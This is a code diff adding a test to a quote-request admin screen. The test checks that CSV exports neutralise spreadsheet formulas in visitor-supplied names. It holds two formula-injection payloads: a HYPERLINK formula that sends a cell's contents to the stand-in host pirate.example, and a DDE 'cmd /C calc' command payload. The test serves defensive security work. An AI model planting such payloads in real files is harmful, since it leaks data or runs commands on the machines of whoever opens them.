@@ -1,5 +1,5 @@
 import { refs } from '@comptoir/core';
-import { quoteRequestData } from '@comptoir/core/testing';
+import { csvCells, quoteRequestData, runsAsFormula } from '@comptoir/core/testing';
 import { screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { describe, expect, it, vi } from 'vitest';
@@ -277,5 +277,29 @@ describe('quote requests screen', () => {
       expect(lines.filter((line) => line.includes(';Client ')).length).toBe(60);
       click.mockRestore();
     });
+  });
+
+  it('exports a visitor’s formula as text, and a phone number as typed (attack side)', async () => {
+    const services = await owner();
+    const attack = '+1+HYPERLINK("https://pirate.example/?d="&D2,"Voir")';
+    await services.db.set(refs.item(SITE, 'quoteRequests', 'piege').path, {
+      ...quoteRequestData({
+        customerFirstName: attack,
+        customerLastName: "-1+cmd|' /C calc'!A0",
+        customerPhone: '+33 6 12 34 56 78',
+        createdAt: new Date('2025-03-14T09:00:00+01:00'),
+      }),
+    });
+    const { blobs, click } = catchDownloads();
+    renderRoute('/admin/content/quotes', services);
+    await screen.findByRole('heading', { level: 2, name: `${attack} -1+cmd|' /C calc'!A0` });
+    await userEvent.click(screen.getByRole('button', { name: 'Exporter en CSV' }));
+    await waitFor(() => expect(click).toHaveBeenCalledOnce());
+    const rows = csvCells(await readDownload(blobs[0] as Blob));
+    expect(rows.flat().filter(runsAsFormula)).toEqual([]);
+    expect(rows.find((row) => row.includes(`'${attack}`))).toEqual(
+      expect.arrayContaining([`'${attack}`, "'-1+cmd|' /C calc'!A0", '+33 6 12 34 56 78']),
+    );
+    click.mockRestore();
   });
 });
